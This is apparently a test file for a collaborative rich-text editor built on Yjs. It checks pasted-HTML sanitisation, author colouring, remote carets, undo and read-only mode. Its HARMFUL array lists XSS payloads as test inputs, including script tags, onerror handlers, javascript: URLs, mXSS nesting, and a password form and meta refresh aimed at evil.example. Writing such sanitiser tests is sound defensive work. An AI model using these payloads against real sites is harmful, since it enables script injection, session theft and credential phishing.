import assert from "node:assert/strict";
import test from "node:test";
import * as Y from "yjs";
import { editorPage, scene, soon } from "../tests/editorpage";

const document = editorPage();
const { openRich } = await import("./rich");
type RichEditor = ReturnType<typeof openRich>;

interface Open {
  editor: RichEditor;
  prose: HTMLElement;
  body: Y.XmlFragment;
}

function open(place = scene("rich"), writes = true): Open & ReturnType<typeof scene> {
  const editor = openRich(place.around, writes);
  document.body.replaceChildren(editor.node);
  const prose = editor.node.querySelector<HTMLElement>(".prose");
  assert.ok(prose);
  return { editor, prose, body: place.copy.doc.getXmlFragment("body"), ...place };
}

/** What the clipboard of a browser would bring. */
function paste(prose: HTMLElement, html: string): void {
  const data = { getData: (type: string) => (type === "text/html" ? html : ""), types: ["text/html"], files: [], items: [] };
  const event = Object.assign(new Event("paste", { bubbles: true, cancelable: true }), { clipboardData: data });
  prose.dispatchEvent(event);
}

function element(name: string, ...content: (Y.XmlElement | Y.XmlText)[]): Y.XmlElement {
  const made = new Y.XmlElement(name);
  made.insert(0, content);
  return made;
}

const HARMFUL = [
  "<script>window.pwned=1</script>",
  '<img src=x onerror="window.pwned=1">',
  '<svg><script>window.pwned=1</script><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
  '<a href="javascript:window.pwned=1">x</a>',
  '<a href="java\tscript:window.pwned=1">x</a>',
  '<a href=" \u0001javascript:window.pwned=1">x</a>',
  '<a href="data:text/html,<script>pwned()</script>">x</a>',
  '<a href="vbscript:pwned">x</a>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<p style="background:url(javascript:pwned)" onclick="pwned()" id="x" class="y">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>',
  "<style>@import 'https://evil.example'</style>",
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<video src=x onerror=pwned()></video><audio src=x onerror=pwned()></audio>',
  '<details open ontoggle=pwned()>x</details>',
  '<table><tr><td background="javascript:pwned()" onmouseover=pwned() colspan=9999999>x</td></tr></table>',
  '<ol start="-5" type="javascript:"><li value=x>x</li></ol>',
];

const ALLOWED = new Set(
  "P H1 H2 H3 H4 H5 H6 UL OL LI LABEL INPUT SPAN DIV BLOCKQUOTE PRE CODE TABLE TBODY TR TD TH HR BR STRONG EM U S SUB SUP A IMG".split(" "),
);

test("pasted HTML passes through the schema, and nothing else does", () => {
  for (const harmful of HARMFUL) {
    const { prose, editor } = open();
    paste(prose, `<p>before</p>${harmful}<p>after</p>`);
    assert.match(prose.textContent ?? "", /before/, harmful);
    for (const node of prose.querySelectorAll("*")) {
      // The one picture is the mark that ProseMirror puts at the end of a line.
      const known = ALLOWED.has(node.tagName) && (node.tagName !== "IMG" || node.className === "ProseMirror-separator");
      assert.ok(known, `${node.tagName} of ${harmful}`);
      for (const { name, value } of node.attributes) {
        assert.ok(!name.startsWith("on"), `${name} of ${harmful}`);
        assert.ok(!["src", "id", "background", "xlink:href"].includes(name), `${name} of ${harmful}`);
        if (name === "href") assert.match(value, /^(https?|mailto):/);
      }
    }
    assert.equal((globalThis as { pwned?: number }).pwned, undefined);
    editor.destroy();
  }
});

test("what a stranger's program wrote into the document harms nobody", () => {
  const place = scene("rich");
  const link = new Y.XmlText();
  link.insert(0, "press me", { link: { href: "javascript:window.pwned=1" } });
  const cell = element("tableCell", element("paragraph", new Y.XmlText("x")));
  cell.setAttribute("style", "position:fixed");
  place.copy.doc.getXmlFragment("body").insert(0, [element("paragraph", link), element("table", element("tableRow", cell))]);
  const { prose, editor } = open(place);
  assert.equal(prose.querySelector("a")?.getAttribute("href"), null);
  assert.equal(prose.querySelector("td")?.getAttribute("style"), null);
  editor.destroy();
});

test("a text of the schema comes through as it is", () => {
  const { prose, editor, body } = open();
  const html =
    '<h2>Head</h2><p><strong>a</strong><em>b</em><u>c</u><s>d</s><sub>e</sub><sup>f</sup><code>g</code><a href="https://example.org/x">h</a></p>' +
    '<ul><li><p>one</p></li></ul><ol start="3"><li><p>three</p></li></ol>' +
    '<ul data-type="taskList"><li data-type="taskItem" data-checked="true"><p>done</p></li></ul>' +
    "<blockquote><p>said</p></blockquote><pre><code>code</code></pre><hr><pre data-raw><code>[odd]</code></pre>" +
    "<table><tbody><tr><th><p>h</p></th><td><p>d</p></td></tr></tbody></table>";
  paste(prose, html);
  const stored = body.toString();
  for (const name of ["heading", "bulletlist", "orderedlist", "tasklist", "taskitem", "blockquote", "codeblock", "horizontalrule", "raw", "tableheader", "tablecell"]) {
    assert.match(stored.toLowerCase(), new RegExp(`<${name}[ >]`), name);
  }
  assert.match(stored, /start="3"/);
  assert.match(stored, /checked="true"/);
  const marks = body.toArray().flatMap((child) => (child instanceof Y.XmlElement ? child.toArray() : []));
  const names = new Set(marks.filter((child) => child instanceof Y.XmlText).flatMap((child) => (child as Y.XmlText).toDelta().flatMap((piece: { attributes?: object }) => Object.keys(piece.attributes ?? {}))));
  assert.deepEqual([...names].sort(), ["bold", "code", "italic", "link", "strike", "subscript", "superscript", "underline"]);
  const linked = marks.flatMap((child) => (child instanceof Y.XmlText ? child.toDelta() : [])).find((piece: { attributes?: { link?: unknown } }) => piece.attributes?.link);
  assert.deepEqual({ ...linked.attributes.link }, { href: "https://example.org/x" });
  editor.destroy();
});

test("each stretch has the colour of its author, and nothing of it is in the text", async () => {
  const place = scene("rich");
  const { doc } = place.copy;
  const other = new Y.Doc();
  other.clientID = 22;
  other.getXmlFragment("body").insert(0, [element("paragraph", new Y.XmlText("by juno"))]);
  Y.applyUpdate(doc, Y.encodeStateAsUpdate(other));
  place.people.learn({ 22: "2" }, { 2: { name: "juno", colour: 7 } });
  const { prose, editor, body } = open(place);
  const text = (body.get(0) as Y.XmlElement).get(0) as Y.XmlText;
  text.insert(3, "mara and ");
  await soon();
  const seen = [...prose.querySelectorAll(".author")].map((node) => [node.className, node.textContent]);
  assert.deepEqual(seen, [
    ["author author-7", "by "],
    ["author author-3", "mara and "],
    ["author author-7", "juno"],
  ]);
  assert.equal(body.toString(), "<paragraph>by mara and juno</paragraph>");
  place.people.learn({}, { 2: { name: "juno", colour: 8 } });
  editor.recolour();
  await soon();
  assert.equal(prose.querySelectorAll(".author-8").length, 2);
  editor.destroy();
});

test("only blocks that changed are coloured again", async () => {
  const place = scene("rich");
  const body = place.copy.doc.getXmlFragment("body");
  body.insert(0, [element("paragraph", new Y.XmlText("one")), element("paragraph", new Y.XmlText("two"))]);
  const { prose, editor } = open(place);
  await soon();
  const first = prose.querySelector(".author");
  ((body.get(1) as Y.XmlElement).get(0) as Y.XmlText).insert(3, "!");
  body.insert(2, [element("paragraph", new Y.XmlText("three"))]);
  await soon();
  assert.equal(prose.querySelector(".author"), first);
  assert.deepEqual([...prose.querySelectorAll(".author")].map((node) => node.textContent), ["one", "two!", "three"]);
  body.delete(0, 1);
  await soon();
  assert.deepEqual([...prose.querySelectorAll(".author")].map((node) => node.textContent), ["two!", "three"]);
  editor.destroy();
});

test("a caret of somebody else has a flag with the name, for eyes only", async () => {
  const place = scene("rich");
  const body = place.copy.doc.getXmlFragment("body");
  body.insert(0, [element("paragraph", new Y.XmlText("hello"))]);
  place.people.learn({ 22: "2" }, { 2: { name: "<b>juno</b>", colour: 7 } });
  const { prose, editor, copy } = open(place);
  const text = (body.get(0) as Y.XmlElement).get(0) as Y.XmlText;
  const at = JSON.parse(JSON.stringify(Y.createRelativePositionFromTypeIndex(text, 2))) as unknown;
  copy.awareness.states.set(22, { cursor: { anchor: at, head: at } });
  copy.awareness.emit("change", [{ added: [22], updated: [], removed: [] }, "test"]);
  await soon();
  const caret = prose.querySelector(".caret");
  assert.equal(caret?.getAttribute("aria-hidden"), "true");
  assert.equal(caret?.querySelector(".caret-flag")?.textContent, "<b>juno</b>");
  assert.equal(caret?.getAttribute("style"), null);
  assert.equal(body.toString(), "<paragraph>hello</paragraph>");
  copy.awareness.states.set(23, { cursor: { anchor: { nonsense: [] }, head: 5 } });
  copy.awareness.states.delete(22);
  copy.awareness.emit("change", [{ added: [23], updated: [], removed: [22] }, "test"]);
  await soon();
  assert.equal(prose.querySelector(".caret"), null);
  editor.destroy();
});

test("undo takes back one's own words and never those of others", async () => {
  const { prose, editor, body, copy } = open();
  paste(prose, "<p>mine</p>");
  const other = new Y.Doc();
  other.clientID = 22;
  Y.applyUpdate(other, Y.encodeStateAsUpdate(copy.doc));
  other.getXmlFragment("body").insert(0, [element("paragraph", new Y.XmlText("theirs"))]);
  Y.applyUpdate(copy.doc, Y.encodeStateAsUpdate(other), "remote");
  assert.match(body.toString(), /theirs.*mine/);
  editor.actions.find((one) => one.id === "undo")?.run();
  assert.match(body.toString(), /theirs/);
  assert.doesNotMatch(body.toString(), /mine/);
  editor.actions.find((one) => one.id === "redo")?.run();
  assert.match(body.toString(), /mine/);
  editor.destroy();
});

test("Escape leaves the text, and a reader cannot write", () => {
  const { prose, editor, left } = open();
  prose.dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", bubbles: true, cancelable: true }));
  assert.equal(left(), 1);
  editor.destroy();
  const reader = open(scene("rich"), false);
  assert.equal(reader.prose.getAttribute("contenteditable"), "false");
  assert.equal(reader.prose.getAttribute("aria-readonly"), "true");
  reader.editor.setWrites(true);
  assert.equal(reader.prose.getAttribute("contenteditable"), "true");
  reader.editor.destroy();
});

test("a text that is too long for one change is not pasted, and a sentence says so", () => {
  const { prose, editor, said, body } = open();
  const long = "x".repeat(200_000);
  const data = { getData: () => long, types: ["text/plain"], files: [], items: [] };
  prose.dispatchEvent(Object.assign(new Event("paste", { bubbles: true, cancelable: true }), { clipboardData: data }));
  assert.deepEqual(said, ["paste-too-large"]);
  assert.doesNotMatch(body.toString(), /x/);
  editor.destroy();
});
